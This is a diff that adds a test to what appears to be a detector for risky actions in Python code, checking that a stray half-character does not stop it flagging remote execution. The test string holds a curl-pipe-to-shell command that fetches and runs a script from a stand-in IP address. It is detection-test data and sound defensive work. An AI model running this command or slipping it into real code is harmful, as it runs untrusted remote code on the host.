@@ -542,3 +542,9 @@ def test_each_way_to_decode_is_known(decode: str) -> None:
 )  # fmt: skip
 def test_longer_ways_to_the_same_are_followed(code: str, act: Act) -> None:
     assert act in acts(read_python(code))
+
+
+def test_half_a_character_breaks_nothing() -> None:
+    code = "import os\nos.system('curl http://203.0.113.7/x | sh')  # \ud83d"
+
+    assert Act.RUN_REMOTE in acts(read_python(code))
